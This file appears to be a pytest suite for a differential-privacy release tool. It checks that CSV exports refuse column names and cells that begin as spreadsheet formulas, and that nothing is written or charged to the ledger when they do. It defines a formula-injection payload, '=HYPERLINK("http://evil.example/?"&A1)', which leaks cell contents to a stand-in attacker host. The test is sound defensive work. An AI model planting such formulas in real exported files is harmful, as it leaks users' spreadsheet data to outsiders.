"""Names and cells that a spreadsheet would compute are in no CSV file written for others."""

import pytest

import privest as pv
from workflow_command import called

NAME = '=HYPERLINK("http://evil.example/?"&A1)'


def columns(folder, *names):
    """A table whose columns have these names; the first is private."""
    quoted = ",".join('"{}"'.format(one.replace('"', '""')) for one in names)
    rows = "".join(f"{k % 7},{k},{'@' if k % 2 else 'b'}x\n" for k in range(40))
    (folder / "t.csv").write_text(f"{quoted}\n{rows}", encoding="utf-8")
    return folder / "t.csv"


@pytest.mark.parametrize(
    ("names", "features", "categories"),
    [(("y", NAME, "g"), [NAME], {}), (("y", "x", "g"), ["x", "g"], {"g": ["@x", "bx"]})],
    ids=["column", "category"],
)
def test_a_release_is_refused_before_anything_is_spent(tmp_path, names, features, categories):
    table = columns(tmp_path, *names)
    plan = pv.plan(
        table, target="y", features=features, form="rows", level=1.0, categories=categories
    )
    with pytest.raises(pv.errors.InvalidInput, match="begins as a formula"):
        plan.release(tmp_path / "z.csv", account=pv.Ledger(tmp_path / "ledger.db").account("y"))
    assert not (tmp_path / "z.csv").exists()
    assert not (tmp_path / "ledger.db").exists() or not pv.Ledger(tmp_path / "ledger.db").subjects()
    plan.release(tmp_path / "z.parquet", account=pv.Ledger(tmp_path / "ledger.db").account("y"))


@pytest.mark.parametrize("emit", ["releases", "estimates"])
def test_a_stream_is_refused(tmp_path, emit):
    given = ("--target", "y", "--features", '"{}"'.format(NAME.replace('"', '""')), "--level", 1)
    table, ledger = columns(tmp_path, "y", NAME, "g"), ("--ledger", tmp_path / "ledger.db")
    done = called("stream", table, *given, "--emit", emit, *ledger, "--output", tmp_path / "z.csv")
    assert (done.returncode, "begins as a formula" in done.stderr) == (2, True), done.stderr
    assert not (tmp_path / "z.csv").exists()
    assert "=HYPERLINK" not in done.stdout
    done = called("stream", table, *given, "--emit", emit, "--output", tmp_path / "z.jsonl")
    assert done.returncode == 0, done.stderr


def timed(folder, *cells):
    """A stream whose times are these."""
    rows = "".join(f'{k % 7},{k},"{cell}"\n' for k, cell in enumerate(cells))
    (folder / "s.csv").write_text(f"y,x,t\n{rows}", encoding="utf-8")
    return folder / "s.csv"


@pytest.mark.parametrize(("emit", "cell"), [("releases", "=1+2"), ("estimates", "\t-x")])
def test_a_stream_refuses_a_time_before_it_is_charged(tmp_path, emit, cell):
    table, ledger = timed(tmp_path, "mon", cell), tmp_path / "ledger.db"
    given = ("stream", table, "--target", "y", "--features", "x", "--time", "t", "--level", 1)
    given = (*given, "--block", 2, "--emit", emit, "--ledger", ledger, "--output")
    done = called(*given, tmp_path / "z.csv")
    assert (done.returncode, "a time begins as a formula" in done.stderr) == (2, True), done.stderr
    assert not (tmp_path / "z.csv").read_bytes()
    with pv.Ledger(ledger) as book:
        assert {one.kind for one in book.history("y of s.csv")} == {"account"}  # no charge
    done = called(*given, tmp_path / "z.jsonl")
    assert done.returncode == 0, done.stderr


def test_times_that_are_no_formulas_are_written(tmp_path):
    cells = ["-1.5", "+2", "-", "++", "-1,5", "-00:30", "-2e-3", "2026-11-16", "a=b", ""]
    given = ("--target", "y", "--features", "x", "--time", "t", "--level", 1, "--emit", "releases")
    given = (*given, "--simulate", "--output", tmp_path / "z.csv")
    done = called("stream", timed(tmp_path, *cells), *given)
    assert done.returncode == 0, done.stderr
